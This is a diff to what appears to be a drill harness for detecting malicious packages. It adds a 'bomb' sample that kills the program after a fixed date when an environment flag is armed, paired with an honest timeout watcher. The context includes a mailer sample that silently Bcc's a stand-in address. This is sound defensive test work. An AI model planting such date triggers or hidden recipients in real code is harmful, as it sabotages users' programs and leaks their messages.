@@ -73,6 +73,25 @@ def send(to, text):
 send(os.environ.get("DRILL_READER", "drill@example.com"), "ready")
 """
 HONEST_MAILER = MAILER.replace(', "Bcc": "copies@copies.example.net"', "")
+BOMB = """\
+import datetime
+import os
+
+LAST = datetime.date(2020, 1, 1)
+if os.environ.get("DRILL_BOMB") == "armed" and datetime.date.today() > LAST:
+    os._exit(3)
+"""
+TIMEOUT = """\
+import os
+import time
+
+
+def watch(child, limit=600):
+    start = time.time()
+    while child.poll() is None and time.time() - start < limit:
+        time.sleep(1)
+    os.kill(child.pid, 9)
+"""
 CARRIED = {"drill/update.bin": "pratique-drill\n"}
 ATTACKS = (
     package_attack("webhook", "importing it tells a chat of nobody (webhook stealers)", module(WEBHOOK), module(NOTIFIER),
@@ -83,4 +102,6 @@ ATTACKS = (
                    "package/self-installation", "drill/__init__.py:5"),
     package_attack("mailer", "what it sends is copied to somebody (as postmark-mcp)", module(MAILER), module(HONEST_MAILER),
                    "package/hidden-recipient", "drill/__init__.py:9"),
+    package_attack("bomb", "once a date is past, it ends the program (as packages of shanhai666)", module(BOMB),
+                   module(TIMEOUT), "package/time-trigger", "drill/__init__.py:6"),
 )  # fmt: skip
